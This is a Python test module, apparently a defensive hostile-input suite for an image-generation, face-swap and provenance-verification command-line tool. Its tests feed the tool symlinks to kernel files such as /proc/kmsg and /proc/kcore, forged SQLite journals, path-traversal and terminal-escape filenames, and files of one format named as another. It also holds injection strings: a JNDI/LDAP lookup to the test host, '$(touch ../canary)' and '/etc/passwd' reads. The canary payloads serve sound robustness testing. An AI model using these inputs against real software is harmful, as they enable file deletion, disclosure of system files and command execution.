"""More attack files: what a path leads to, what lies beside a file, and files named otherwise.

Sources: proc(5); SQLite's file format, section "The Rollback Journal"; the QuickTime file format
("Reference Movies"); the Matroska specification (attachments).
"""

from __future__ import annotations

import json
import os
import struct
from pathlib import Path

from tests.hostile.attacks import Words, attack, film, swap
from tests.hostile.attacks_media import ebml

# --- what the kernel makes up ---------------------------------------------------------------------

SMALL = ["--steps", "1", "--width", "64", "--height", "64"]
GENERATE = ["generate", "a cat", "-o", "out.png", *SMALL]
SWAP = ["swap", "portrait.png", "out.png", "--source", "portrait.png"]
READERS: dict[str, tuple[str, list[str]]] = {  # a name that fits, and the words
    "film": ("a.mp4", ["swap", "a.mp4", "out.mp4", "--source", "portrait.png"]),
    "source": ("a.png", ["swap", "portrait.png", "out.png", "--source", "a.png"]),
    "reference": ("a.png", [*SWAP, "--select", "reference", "--reference", "a.png"]),
    "swapper": ("a.onnx", [*SWAP, "--swapper", "a.onnx"]),
    "dfm": ("a.dfm", [*SWAP, "--swapper", "a.dfm"]),
    "recogniser": ("a.onnx", [*SWAP, "--swapper", "a.onnx", "--recogniser", "a.onnx"]),
    "certificate": ("a.pem", [*SWAP, "--certificate", "a.pem", "--key", "a.pem"]),
    "checkpoint": ("a.ckpt", [*GENERATE, "--model", "a.ckpt"]),
    "tensors": ("a.safetensors", [*GENERATE, "--model", "a.safetensors"]),
    "vae": ("a.safetensors", [*GENERATE, "--vae", "a.safetensors"]),
    "decoder": ("a.safetensors", [*GENERATE, "--decoder", "a.safetensors"]),
    "tiny_vae": ("a.safetensors", [*GENERATE, "--preview", "p.png", "--tiny-vae", "a.safetensors"]),
    "lora": ("a.safetensors", [*GENERATE, "--lora", "a.safetensors"]),
    "control": ("a.safetensors", [*GENERATE, "--control", "a.safetensors", "--control-image",
                                  "portrait.png"]),
    "control_image": ("a.png", [*GENERATE, "--control", "canny", "--control-image", "a.png"]),
    "init": ("a.png", [*GENERATE, "--init", "a.png"]),
    "mask": ("a.png", [*GENERATE, "--init", "portrait.png", "--mask", "a.png"]),
    "settings": ("a.png", ["generate", "--from", "a.png", "-o", "out.png", *SMALL]),
    "grid": ("a.txt", [*GENERATE, "--x", "model=a.txt,a.txt"]),
    "ledger": ("a.sqlite", ["ledger", "verify", "--file", "a.sqlite"]),
    "reports": ("a.json", ["bench", "--compare", "a.json", "a.json"]),
    "gate": ("a.json", ["bench", "--gate", "a.json", "a.json"]),
    "images": ("a.npz", ["train-diffusion", "vae", "a.npz", "run", "--images", "10"]),
    "trust": ("a.pem", ["verify", "portrait.png", "--trust", "a.pem"]),
}  # fmt: skip


def made_up(path: Path) -> None:
    """A link to a file without a length, which waits for what the kernel says next."""
    path.symlink_to("/proc/kmsg" if os.access("/proc/kmsg", os.R_OK) else "/proc/self/status")


for _name, (_file, _words) in READERS.items():

    def _build(folder: Path, url: str, file=_file, words=_words) -> Words:
        made_up(folder / file)
        return words

    _build.__name__ = f"kernel_file_as_{_name}"
    attack()(_build)


@attack(statuses=(4,))
def kernel_file_to_verify(folder: Path, url: str) -> Words:
    made_up(folder / "a.png")
    return ["verify", "a.png"]


@attack(statuses=(1,))
def kernel_file_beside_what_is_verified(folder: Path, url: str) -> Words:
    made_up(folder / "portrait.png.c2pa")
    made_up(folder / "portrait.c2pa")
    return ["verify", "portrait.png"]


@attack(statuses=(3, 4))
def kernel_files_in_a_folder(folder: Path, url: str) -> Words:
    place = folder / "all"
    place.mkdir()
    for suffix in ("png", "mp4", "jpg", "webp", "mkv"):
        made_up(place / f"a.{suffix}")
    (place / "memory.png").symlink_to("/proc/self/mem")
    (place / "core.png").symlink_to("/proc/kcore")
    return ["verify", "all"]


def workspace(folder: Path) -> Path:
    place = folder / "w"
    for name in ("data_src/aligned", "data_dst/aligned", "model"):
        (place / name).mkdir(parents=True)
    return place


for _name, (_file, _words) in {
    "film": ("data_src.mp4", ["frames", "w", "--side", "src"]),
    "frame": ("data_src/00001.png", ["extract", "w", "--side", "src"]),
    "face": ("data_src/aligned/00001.jpg", ["sort", "w", "--side", "src", "--by", "blur"]),
    "faceset": ("data_src/aligned/faceset.pak", ["unpack", "w", "--side", "src"]),
    "face_to_pack": ("data_src/aligned/00001.jpg", ["pack", "w", "--side", "src"]),
    "index": ("data_dst/frames.json", ["extract", "w", "--side", "dst"]),
    "model": ("model/a_SAEHD_data.dat", ["export", "w", "--model", "saehd", "--to", "out.dfm"]),
}.items():

    def _build(folder: Path, url: str, file=_file, words=_words) -> Words:
        made_up(workspace(folder) / file)
        return ["dfl", *words]

    _build.__name__ = f"kernel_file_in_a_workspace_as_{_name}"
    attack()(_build)


# --- what lies beside -----------------------------------------------------------------------------


def hot_journal(other: str) -> bytes:
    """A journal that a ledger would be rolled back by, and that names another file to remove."""
    magic = b"\xd9\xd5\x05\xf9\x20\xa1\x63\xd7"
    head = magic + struct.pack(">5I", 0, 1, 1, 512, 4096)
    name = other.encode()
    tail = struct.pack(">I", 0x40000000 // 4096 + 1) + name
    tail += struct.pack(">II", len(name), sum(name) & 0xFFFFFFFF) + magic
    return head.ljust(512, b"\0") + tail


@attack(statuses=(0, 1, 2))
def ledger_whose_journal_removes_a_file(folder: Path, url: str) -> Words:
    from accel.provenance.ledger import Ledger

    Ledger(folder / "a.sqlite").add(task="swap", sha256="0" * 64)
    (folder / "theirs").write_text("kept")
    (folder / "a.sqlite-journal").write_bytes(hot_journal(str(folder / "theirs")))
    return ["ledger", "verify", "--file", "a.sqlite"]


for _name in ("journal", "wal", "shm"):

    def _build(folder: Path, url: str, name=_name) -> Words:
        from accel.provenance.ledger import Ledger

        Ledger(folder / "a.sqlite").add(task="swap", sha256="0" * 64)
        os.mkfifo(folder / f"a.sqlite-{name}")
        return ["ledger", "list", "--file", "a.sqlite"]

    _build.__name__ = f"ledger_beside_a_pipe_of_its_{_name}"
    attack(statuses=(0, 1, 2))(_build)


@attack(statuses=(2,))
def ledger_that_keeps_a_log_elsewhere(folder: Path, url: str) -> Words:
    """In this mode SQLite makes two files beside a ledger that is only read."""
    import sqlite3

    from accel.provenance.ledger import Ledger

    (folder / "sub").mkdir()
    path = folder / "sub" / "a.sqlite"
    Ledger(path).add(task="swap", sha256="0" * 64)
    base = sqlite3.connect(path)
    base.execute("PRAGMA journal_mode=WAL")
    base.close()
    (folder / "sub").chmod(0o500)
    return ["ledger", "verify", "--file", "sub/a.sqlite"]


@attack(statuses=(3, 4))
def verify_of_folders_without_end(folder: Path, url: str) -> Words:
    """Deeper than Python may call itself."""
    here = folder.parent / "home" / "deep"  # where changes are not looked for
    (folder / "deep").symlink_to(here)
    here.parent.mkdir(exist_ok=True)
    for _ in range(1500):
        here.mkdir()
        here = here / "d"
    here.with_name("a.png").write_bytes(b"x")
    return ["verify", "deep"]


@attack(statuses=(3, 4))
def verify_of_very_many_files(folder: Path, url: str) -> Words:
    place = folder / "all"
    place.mkdir()
    for index in range(500):
        (place / f"{index}\x1b[2J\u202e.png").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(index))
    return ["verify", "all"]


# --- files named otherwise ------------------------------------------------------------------------

SCRIPTS = {
    "marked_playlist": "\ufeff#EXTM3U\n#EXTINF:1,\n{url}/a.ts\n",
    "late_playlist": "\n\n  #EXTM3U\n{url}/a.ts\n",
    "playlist_of_playlists": "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{url}/b.m3u8\n",
    "old_playlist": "[playlist]\nFile1={url}/a.mp4\nNumberOfEntries=1\n",
    "xml_playlist": "<?xml version='1.0'?><playlist xmlns='http://xspf.org/ns/0/'><trackList>"
    "<track><location>{url}/a.mp4</location></track></trackList></playlist>",
    "smil": "<smil><body><video src='{url}/a.mp4'/></body></smil>",
    "rtsp_text": "RTSPtext\nrtsp://{host}/a\n",
    "asx": "<asx version='3.0'><entry><ref href='{url}/a.asf'/></entry></asx>",
    "metadata": ";FFMETADATA1\ntitle=x\n[CHAPTER]\nTIMEBASE=1/0\nSTART=0\nEND=1\n",
    "subtitles": "1\n00:00:00,000 --> 99:99:99,999\n<img src='{url}/a.png'>\n",
    "web_subtitles": "WEBVTT\n\n00:00.000 --> 99:99.999\n<c>x</c>\n",
    "subtitle_index": "# VobSub index file, v7\nid: en, index: 0\nalt: /etc/passwd\n",
    "ass": "[Script Info]\n[Fonts]\nfontname: ../../canary\n",
    "imf": "<?xml version='1.0'?><CompositionPlaylist xmlns='http://www.smpte-ra.org/'/>",
    "vapoursynth": "import os\nos.system('touch ../canary')\nvideo.set_output()\n",
    "avisynth": "AviSource(\"\\\\\\\\server\\\\share\\\\a.avi\")\n",
    "lut": "[lavfi]\nmovie=/etc/passwd\n",
    "shader": "#!/bin/sh\ntouch ../canary\n",
    "desktop_link": "[InternetShortcut]\nURL={url}/a.mp4\n",
    "pointer": "version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 1\n",
    "template": "{{7*7}} ${{jndi:ldap://{host}/a}} $(touch ../canary) `touch ../canary`\n",
}  # fmt: skip

for _name, _text in SCRIPTS.items():
    for _suffix in ("mp4", "mkv", "gif", "png"):

        def _build(folder: Path, url: str, text=_text, suffix=_suffix) -> Words:
            host = url.removeprefix("http://")
            (folder / f"a.{suffix}").write_text(text.format(url=url, host=host))
            return swap(f"a.{suffix}")

        _build.__name__ = f"{_name}_named_{_suffix}"
        attack("first bytes fit neither")(_build)


def box(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I4s", 8 + len(body), kind) + body


@attack()
def film_that_refers_to_another(folder: Path, url: str) -> Words:
    place = f"{url}/a.mov\0".encode()
    where = box(b"rdrf", bytes(4) + b"url " + struct.pack(">I", len(place)) + place)
    movie = box(b"moov", box(b"rmra", box(b"rmda", where)))
    (folder / "a.mov").write_bytes(box(b"ftyp", b"qt  \0\0\0\0qt  ") + movie)
    return swap("a.mov")


@attack(statuses=(0, 2))
def film_with_attachments_elsewhere(folder: Path, url: str) -> Words:
    data = bytearray(film(folder, "a.mkv", codec="ffv1").read_bytes())
    files = b"".join(
        ebml(b"\x61\xa7", ebml(b"\x46\x6e", name.encode()) + ebml(b"\x46\x60", kind.encode())
             + ebml(b"\x46\x5c", b"x" * 1000) + ebml(b"\x46\xae", bytes([index + 1])))
        for index, (name, kind) in enumerate([
            ("../canary", "text/plain"), ("/tmp/canary", "application/x-truetype-font"),
            ("\x1b[2J\u202e.png", "image/png"), ("x" * 5000, "application/octet-stream"),
            (f"{url}/a.ttf", "font/ttf")])
    )  # fmt: skip
    at = data.index(b"\x18\x53\x80\x67") + 4
    size = int.from_bytes(data[at : at + 8], "big") & ~(1 << 56)
    more = ebml(b"\x19\x41\xa4\x69", files)
    data[at : at + 8] = struct.pack(">Q", (size + len(more)) | 1 << 56)
    (folder / "a.mkv").write_bytes(data + more)
    return ["swap", "a.mkv", "out.mkv", "--source", "portrait.png"]


@attack("clip_skip must lie in 1..2")
def clip_skip_beyond_the_layers(folder: Path, url: str) -> Words:
    return [*GENERATE, "--clip-skip", "3"]


@attack(statuses=(0,))
def preview_without_a_kind(folder: Path, url: str) -> Words:
    return [*GENERATE, "--preview", "p"]


# --- credentials whose lengths lie ----------------------------------------------------------------


def signed(folder: Path, name: str) -> Path:
    from PIL import Image

    from accel.provenance.c2pa import Statement, sign
    from accel.provenance.keys import local_identity

    path = folder / name
    Image.new("RGB", (64, 64), "red").save(path)
    sign(path, Statement(task="generate"), local_identity(folder.parent / "home" / "signer"))
    return path


for _suffix in ("png", "jpg", "webp"):
    for _name, _length in {
        "nothing": 0, "one": 1, "seven": 7, "all": 0xFFFFFFFF, "half": 0x7FFFFFFF,
    }.items():  # fmt: skip
        for _which in (0, 1, 5, -1):

            def _build(folder: Path, url: str, suffix=_suffix, length=_length, which=_which):
                path = signed(folder, f"a.{suffix}")
                data = bytearray(path.read_bytes())
                places = [i for i in range(len(data) - 4) if data[i : i + 4] in (b"jumb", b"cbor")]
                at = places[which] - 4
                data[at : at + 4] = struct.pack(">I", length)
                path.write_bytes(data)
                return ["verify", path.name]

            _build.__name__ = f"credential_of_{_name}_long_{_suffix}_{_which % 100}"
            attack(statuses=(0, 1, 2, 3, 4))(_build)  # 0: the words are the same


# --- reports that are compared --------------------------------------------------------------------

for _name, _told in {
    "nested": "[" * 60_000,
    "a_list": "[1]",
    "words": json.dumps({"rows": "x", "groups": "y"}),
    "odd_rows": json.dumps({"rows": [None, 1, "x", {"op": {}, "case": [], "median_ms": "nan"}]}),
    "no_number": '{"rows": [{"op": "a", "case": "b", "median_ms": NaN, "ratio": Infinity}]}',
    "terminal_words": json.dumps({"rows": [{"op": "\x1b[2J", "case": "\u202e"}], "device": "\x07"}),
}.items():
    for _option in ("--compare", "--gate"):

        def _build(folder: Path, url: str, told=_told, option=_option) -> Words:
            (folder / "a.json").write_text(told)
            return ["bench", option, "a.json", "a.json"]

        _build.__name__ = f"bench_{_option[2:]}_of_{_name}"
        attack(statuses=(0, 1, 2))(_build)
